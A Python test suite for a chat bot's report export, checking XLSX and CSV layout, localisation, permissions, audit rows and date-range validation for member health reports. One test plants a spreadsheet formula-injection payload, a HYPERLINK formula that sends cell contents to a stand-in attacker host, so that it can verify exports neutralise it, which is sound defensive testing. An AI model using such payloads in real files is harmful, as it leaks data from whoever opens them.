"""/export: the subtree's reports of a date range as XLSX, audited; bad ranges refused."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.db import Database
from bot.i18n import use_locale
from bot.sandbox import SandboxClient, SandboxServer
from bot.services.reports.export import (
    MAX_DAYS,
    ExportDay,
    InvalidRange,
    RangeError,
    parse_range,
)
from tests.leaders.helpers import (
    ALAN,
    BEN,
    CARA,
    DORA,
    EVERYONE,
    GINA,
    MIA,
    NOW,
    ask,
    audit_rows,
    report,
    seed_org,
)
from tests.support.builders import MONDAY, at, running_clock, started

SUNDAY = MONDAY - timedelta(days=1)
SATURDAY = MONDAY - timedelta(days=2)


async def workbook(sb: SandboxClient, message: dict[str, Any]) -> Any:
    return load_workbook(io.BytesIO(await sb.file(message["document"]["file_id"])))


def values(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


async def leave(db: Database, member_id: int, day: date, kind: str, note: str = "") -> None:
    from bot.db.models import Leave, LeaveKind

    async with db.transaction() as s:
        s.add(Leave(member_id=member_id, start_date=day, end_date=day, kind=LeaveKind(kind),
                    note=note))


WORDS = {
    "en": dict(header=("Date", "Unit", "Member", "Report", "Member's condition",
                       "Temperature (°C)", "Symptoms", "Contact with a case", "Travel",
                       "Isolation", "Note", "Household's condition", "Late", "Reported at",
                       "Entered by"),
               summary=("Date", "Unit", "Expected", "Reported", "Not reported",
                        "Abnormal reports", "Late", "On leave or exempt", "Day off"),
               sheets=["Reports", "Daily figures"], reported="reported",
               missing="not reported", exempt="exempt", well="well", abnormal="abnormal",
               yes="yes", all_well="all well", total="Total",
               symptoms="cough, fatigue", spouse="spouse Li Na: fever 38.6 °C, cough",
               caption="Reports Nov 29 to Nov 30: 8 rows."),
    "zh_CN": dict(header=("日期", "单位", "成员", "报告情况", "本人状况", "体温（℃）", "症状",
                          "接触病例", "外出旅行", "隔离", "备注", "家属状况", "迟报", "上报时间",
                          "代填人"),
                  summary=("日期", "单位", "应报", "已报", "未报", "异常报告", "迟报",
                           "请假或免报", "休息日"),
                  sheets=["报告", "每日统计"], reported="已上报", missing="未上报",
                  exempt="免报", well="正常", abnormal="异常", yes="是", all_well="均正常",
                  total="合计", symptoms="咳嗽、乏力", spouse="spouse Li Na：发热 38.6℃、咳嗽",
                  caption="的报告：共 8 行。"),
}


@pytest.mark.parametrize("locale", ["en", "zh_CN"])
async def test_a_leader_files_every_member_every_day_with_the_household_apart(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, locale: str
) -> None:
    w = WORDS[locale]
    o = await seed_org(db, locale=locale)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    await report(db, o.members[MIA], day=SUNDAY, now=NOW - timedelta(days=1))
    await leave(db, o.members[BEN], SUNDAY, "exempt", "出差 business trip")
    # Monday: Mia is well, only her spouse is ill; Dora met a case and coughs.
    await report(db, o.members[MIA], spouse="38.6", spouse_symptoms=("cough",))
    await report(db, o.members[DORA], contact_case=True, symptoms=("cough", "fatigue"),
                 temperature="36.8")
    await report(db, o.members[CARA])  # Company B: not Alan's

    [doc] = await ask(sb, ALAN, "/export 2026-11-29 2026-11-30")
    assert w["caption"] in doc["caption"]
    book = await workbook(sb, doc)
    assert book.sheetnames == w["sheets"]
    rows, summary = book.worksheets
    cells = values(rows)
    assert cells[0] == w["header"]
    a, b1 = "Group / Company A", "Group / Company A / Branch 1"
    sunday, monday = datetime(2026, 11, 29), datetime(2026, 11, 30)
    body = [r[:12] + (r[12],) for r in cells[1:]]
    assert body == [
        (sunday, a, "Alan", w["missing"], None, None, None, None, None, None, None, None,
         None),
        (sunday, b1, "Ben", w["exempt"], None, None, None, None, None, None,
         "出差 business trip", None, None),
        (sunday, b1, "Dora", w["missing"], None, None, None, None, None, None, None, None,
         None),
        (sunday, b1, "Mia", w["reported"], w["well"], None, None, None, None, None, None,
         w["all_well"], None),
        (monday, a, "Alan", w["missing"], None, None, None, None, None, None, None, None,
         None),
        (monday, b1, "Ben", w["missing"], None, None, None, None, None, None, None, None,
         None),
        (monday, b1, "Dora", w["reported"], w["abnormal"], 36.8, w["symptoms"], w["yes"],
         None, None, None, None, None),
        (monday, b1, "Mia", w["reported"], w["well"], None, None, None, None, None, None,
         w["spouse"], None),
    ]
    assert cells[4][13] == datetime(2026, 11, 29, 9, 0)  # the unit's wall-clock time
    assert cells[1][13] is None
    # Formats that Excel and WPS display: real dates, explicit formats, wide enough columns.
    assert rows["A2"].number_format == "yyyy-mm-dd" and rows["A2"].is_date
    assert rows["N5"].number_format == "yyyy-mm-dd hh:mm" and rows["N5"].is_date
    assert rows["F8"].number_format == "0.0"
    widths = {k: d.width for k, d in rows.column_dimensions.items()}
    assert widths["A"] >= 12 and widths["N"] >= 18 and widths["L"] >= 30
    assert all(widths[chr(ord("A") + i)] >= len(h) * (2 if locale == "zh_CN" else 1)
               for i, h in enumerate(w["header"]))
    assert rows.freeze_panes == "D2" and rows.auto_filter.ref == "A1:O9"
    assert rows["A1"].font.b

    assert values(summary) == [
        w["summary"],
        (sunday, a, 1, 0, 1, 0, 0, 0, None),
        (sunday, b1, 2, 1, 1, 0, 0, 1, None),
        (sunday, w["total"], 3, 1, 2, 0, 0, 1, None),
        (monday, a, 1, 0, 1, 0, 0, 0, None),
        (monday, b1, 3, 2, 1, 2, 0, 0, None),
        (monday, w["total"], 4, 2, 2, 2, 0, 0, None),
    ]
    assert summary.freeze_panes == "C2" and summary.auto_filter.ref == "A1:I7"
    assert summary["A2"].number_format == "yyyy-mm-dd"
    [audit] = await audit_rows(db, "export")
    assert audit.target == f"unit:{o.units['Company A']}"
    assert audit.details == {"from": "2026-11-29", "to": "2026-11-30", "rows": 8}


async def test_only_members_of_that_day_have_a_row(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database
) -> None:
    """A member who joined on Monday is not missing on Sunday; an admin gets everyone."""
    from sqlalchemy import update

    from bot.db.models import Membership

    o = await seed_org(db)
    async with db.transaction() as s:  # as history.assign records a join on Monday
        await s.execute(update(Membership).where(Membership.member_id == o.members[BEN])
                        .values(start_day=MONDAY))
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    [doc] = await ask(sb, GINA, "/export 2026-11-29 2026-11-30")
    cells = values((await workbook(sb, doc)).worksheets[0])
    assert [(r[0].day, r[2]) for r in cells[1:]] == [
        (29, "Gina"), (29, "Alan"), (29, "Dora"), (29, "Mia"), (29, "Bob"), (29, "Cara"),
        (30, "Gina"), (30, "Alan"), (30, "Ben"), (30, "Dora"), (30, "Mia"), (30, "Bob"),
        (30, "Cara")]

    # The default is the last 7 days.
    [all_doc] = await ask(sb, GINA, "/export")
    assert all_doc["document"]["file_name"] == "reports_20261124-20261130.xlsx"


@pytest.mark.parametrize(("args", "expected"), [
    ("2026-11-01 2026-03-01", "The last day is before the first day."),
    ("2026-01-01 2026-12-31", "An export covers at most 92 days."),
    ("2026-02-30", "That date does not exist."),
    ("last week", "Send /export for the last 7 days"),
    ("1 2 3", "Send /export for the last 7 days"),
])
async def test_bad_ranges_are_refused(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, args: str,
    expected: str
) -> None:
    await seed_org(db)
    started(sandbox, EVERYONE)
    [reply] = await ask(sb, ALAN, f"/export {args}")
    assert reply["text"].startswith(expected)
    assert "document" not in reply or not reply["document"]
    assert await audit_rows(db, "export") == []


async def test_members_may_not_export(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database
) -> None:
    await seed_org(db)
    started(sandbox, EVERYONE)
    [reply] = await ask(sb, MIA, "/export")
    assert reply["text"] == "Only unit leaders and administrators can do this."
    assert await audit_rows(db, "export") == []


TODAY = date(2026, 11, 30)


def test_the_default_range_and_one_date() -> None:
    assert parse_range("", TODAY) == (date(2026, 11, 24), TODAY)
    assert parse_range("2026-11-20", TODAY) == (date(2026, 11, 20), TODAY)
    assert parse_range("２０２６-11-01 2026/11/07", TODAY) == (date(2026, 11, 1),
                                                              date(2026, 11, 7))
    assert parse_range("2026-12-05", TODAY) == (date(2026, 12, 5), date(2026, 12, 5))
    with pytest.raises(InvalidRange) as error:
        parse_range("x" * 10_000, TODAY)
    assert error.value.code is RangeError.FORMAT


@given(st.text(max_size=80))
def test_any_text_parses_to_a_valid_range_or_a_clear_refusal(text: str) -> None:
    try:
        start, end = parse_range(text, TODAY)
    except InvalidRange as error:
        assert error.code in RangeError
    else:
        assert start <= end and (end - start).days < MAX_DAYS


@given(st.dates(min_value=date(2000, 1, 1), max_value=date(2100, 1, 1)),
       st.integers(min_value=0, max_value=200))
def test_ranges_up_to_the_limit_pass_longer_ones_do_not(start: date, days: int) -> None:
    end = start + timedelta(days=days)
    text = f"{start.isoformat()} {end.isoformat()}"
    if days < MAX_DAYS:
        assert parse_range(text, TODAY) == (start, end)
    else:
        with pytest.raises(InvalidRange):
            parse_range(text, TODAY)


async def test_an_export_too_big_for_the_chat_is_refused(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    o = await seed_org(db)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    monkeypatch.setattr("bot.services.reports.export.MAX_CHAT_ROWS", 7)
    await report(db, o.members[MIA])
    await report(db, o.members[DORA])
    [reply] = await ask(sb, ALAN, "/export")
    assert reply["text"].startswith("That is too many reports for one file here.")
    assert await audit_rows(db, "export") == []


PLANTED = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Details")'


async def test_what_members_typed_is_never_a_formula_in_an_export(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, database_url: str,
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch,
) -> None:
    from sqlalchemy import update

    from bot.cli.entry import main
    from bot.db.models import HouseholdEntry, HouseholdReport, Member, Report

    o = await seed_org(db)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    async with db.transaction() as s:  # as /family, the roster and the report form store them
        await s.execute(update(HouseholdEntry).values(name=PLANTED, relation="@spouse"))
        await s.execute(update(Member).where(Member.id == o.members[MIA]).values(name=PLANTED))
    await report(db, o.members[MIA], temperature="38.2", spouse="37.5")
    async with db.transaction() as s:
        await s.execute(update(Report).values(note="+SUM(1,2)"))
        await s.execute(update(HouseholdReport).values(name=PLANTED, relation="@spouse"))

    [doc] = await ask(sb, ALAN, "/export 2026-11-30 2026-11-30")
    data = await sb.file(doc["document"]["file_id"])
    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
             for c in row]
    assert PLANTED in [c.value for c in cells] and "+SUM(1,2)" in [c.value for c in cells]
    assert f"@spouse {PLANTED}: fever 37.5 °C" in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []

    out = tmp_path / "reports.csv"
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert await asyncio.to_thread(main, ["export", "--from", "2026-11-30", "--to",
                                          "2026-11-30", "--format", "csv", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert "'" + PLANTED in fields and "'+SUM(1,2)" in fields
    assert any(f.startswith(f"'@spouse {PLANTED}") for f in fields)  # the CLI speaks zh here
    assert not any(f.startswith(("=", "+", "-", "@")) for f in fields)


async def _days(db: Database, unit: int | None, start: date, end: date) -> list[Any]:
    from bot.db.models import Unit
    from bot.services.org.permissions import operator
    from bot.services.reports.export import export_days

    async with db.transaction() as s:
        scope = operator(await s.get(Unit, unit) if unit else None)
        return [d async for d in export_days(s, scope, start, end)]


async def test_a_day_off_expects_nobody_and_a_member_who_left_stays_in_the_past(
    db: Database
) -> None:
    from sqlalchemy import update

    from bot.db.models import Holiday, Member, Membership

    o = await seed_org(db)
    async with db.transaction() as s:
        s.add(Holiday(unit_id=o.units["Company A"], day=SUNDAY))
        # Ben left on Monday: his stay ended on Sunday, his roster row is inactive.
        await s.execute(update(Membership).where(Membership.member_id == o.members[BEN])
                        .values(end_day=SUNDAY))
        await s.execute(update(Member).where(Member.id == o.members[BEN]).values(active=False))
    await report(db, o.members[MIA], day=SUNDAY, now=NOW - timedelta(days=1), spouse="38.0")
    await report(db, o.members[MIA])
    await report(db, o.members[BEN], day=SATURDAY, now=NOW - timedelta(days=2))
    await report(db, o.members[DORA], day=SATURDAY, now=at(SATURDAY, "23:30"))  # after deadline

    saturday, sunday, monday = await _days(db, o.units["Company A"], SATURDAY, MONDAY)
    assert [(r.member, r.attendance, r.late) for r in saturday.rows] == [
        ("Alan", "missing", False), ("Ben", "reported", False), ("Dora", "reported", True),
        ("Mia", "missing", False)]
    assert [(u.expected, u.reported, u.late) for u in saturday.units] == [(1, 0, 0), (3, 2, 1)]
    # Sunday is a holiday: only what was reported has a row; nobody is expected.
    assert [(r.member, r.attendance, r.abnormal) for r in sunday.rows] == [
        ("Mia", "reported", False)]
    assert [h.name for h in sunday.rows[0].household_unwell] == ["Li Na"]
    assert [(u.unit, u.day_off, u.expected, u.reported, u.abnormal) for u in sunday.units] == [
        ("Group / Company A", True, 0, 0, 0), ("Group / Company A / Branch 1", True, 0, 0, 1)]
    assert [r.member for r in monday.rows] == ["Alan", "Dora", "Mia"]  # Ben has gone
    assert [(u.expected, u.reported, u.missing) for u in monday.units] == [(1, 0, 1), (2, 1, 1)]
    # Company B is not Company A's: none of its rows, whatever the day.
    everyone = await _days(db, None, MONDAY, MONDAY)
    assert {r.member for r in everyone[0].rows} == {"Gina", "Alan", "Dora", "Mia", "Bob",
                                                    "Cara"}


def test_the_household_column_names_who_and_joins_as_each_language_does() -> None:
    from dataclasses import replace
    from decimal import Decimal

    from bot.i18n import use_locale
    from bot.render.export import display_width, household_text
    from bot.services.reports.export import Attendance, ExportRow, HouseholdLine

    spouse = HouseholdLine("配偶", "李华", Decimal("38.6"), True, ("fever", "cough"), "昨晚开始")
    child = HouseholdLine("子女", "王波", None, False, ("sore_throat",), "")
    well = HouseholdLine("母亲", "张芳", Decimal("36.5"), False, (), "")
    noted = HouseholdLine("父亲", "王强", None, False, (), "=在外地")
    row = ExportRow(day=MONDAY, unit="", member_id=1, member="王伟",
                    attendance=Attendance.REPORTED, abnormal=False, temperature=None,
                    fever=False, symptoms=(), contact_case=False, travel=False,
                    isolation=False, note="", late=False, reported_at=None, entered_by="",
                    household=(spouse, child, well, noted))
    with use_locale("zh_CN"):
        assert household_text(row) == ("配偶 李华：发热 38.6℃、咳嗽 “昨晚开始”；子女 王波：咽痛；"
                                       "父亲 王强：正常 “=在外地”")
        assert household_text(replace(row, household=(well,))) == "均正常"
    with use_locale("en"):
        assert household_text(row) == ("配偶 李华: fever 38.6 °C, cough “昨晚开始”; "
                                       "子女 王波: sore throat; 父亲 王强: well “=在外地”")
        assert household_text(replace(row, household=())) == ""
    assert display_width("家属状况") == 8 and display_width("Late") == 4



def test_an_unfinished_book_is_discarded_cleanly(monkeypatch: pytest.MonkeyPatch) -> None:
    import gc
    import sys

    from bot.render.export import ExportBook

    # A write-only sheet left open writes its closing tags into its closed temporary file
    # when it is collected: an error at a random later moment (it failed other tests).
    raised: list[BaseException | None] = []
    monkeypatch.setattr(sys, "unraisablehook", lambda u: raised.append(u.exc_value))
    with use_locale("zh_CN"):
        book = ExportBook("Asia/Shanghai")
    book.discard()
    del book
    gc.collect()
    assert raised == []


async def test_a_failed_export_discards_its_book(monkeypatch: pytest.MonkeyPatch) -> None:
    from bot.render.export import ExportBook, export_workbook

    discarded: list[ExportBook] = []
    discard = ExportBook.discard

    def spy(book: ExportBook) -> None:
        discarded.append(book)
        discard(book)

    monkeypatch.setattr(ExportBook, "discard", spy)

    async def failing() -> AsyncIterator[ExportDay]:
        raise RuntimeError("the database went away")
        yield  # an async generator

    with use_locale("zh_CN"), pytest.raises(RuntimeError):
        await export_workbook(failing(), "Asia/Shanghai")
    assert len(discarded) == 1
